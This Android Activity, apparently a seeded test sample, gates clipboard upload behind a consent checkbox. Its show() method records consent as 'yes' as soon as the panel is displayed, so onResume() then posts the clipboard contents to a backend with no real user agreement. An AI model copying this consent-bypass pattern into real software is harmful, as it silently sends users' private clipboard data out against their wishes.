package org.consentry.flow.consentgates.layoutflagonshow;

import android.app.Activity;
import android.content.ClipData;
import android.content.ClipboardManager;
import android.content.SharedPreferences;
import android.os.Bundle;
import android.view.View;
import android.widget.CheckBox;

public class Main extends Activity implements View.OnClickListener {
    private View panel;
    private CheckBox box;
    private SharedPreferences memory;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        memory = getSharedPreferences("memory", MODE_PRIVATE);
        panel = findViewById(R.id.panel);
        box = findViewById(R.id.box);
        findViewById(R.id.go).setOnClickListener(this);
        if (!"yes".equals(memory.getString("consent", null))) {
            show();
        }
    }

    private void show() {
        panel.setVisibility(View.VISIBLE);
        memory.edit().putString("consent", "yes").commit();
    }

    @Override
    public void onClick(View view) {
        if (box.isChecked()) {
            memory.edit().putString("consent", "yes").apply();
            panel.setVisibility(View.GONE);
            paste();
        }
    }

    @Override
    protected void onResume() {
        super.onResume();
        if ("yes".equals(memory.getString("consent", null))) {
            paste();
        }
    }

    private void paste() {
        ClipboardManager board = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
        ClipData clip = board.getPrimaryClip();
        if (clip != null) {
            Api.post("clip", String.valueOf(clip.getItemAt(0).getText()));
        }
    }
}
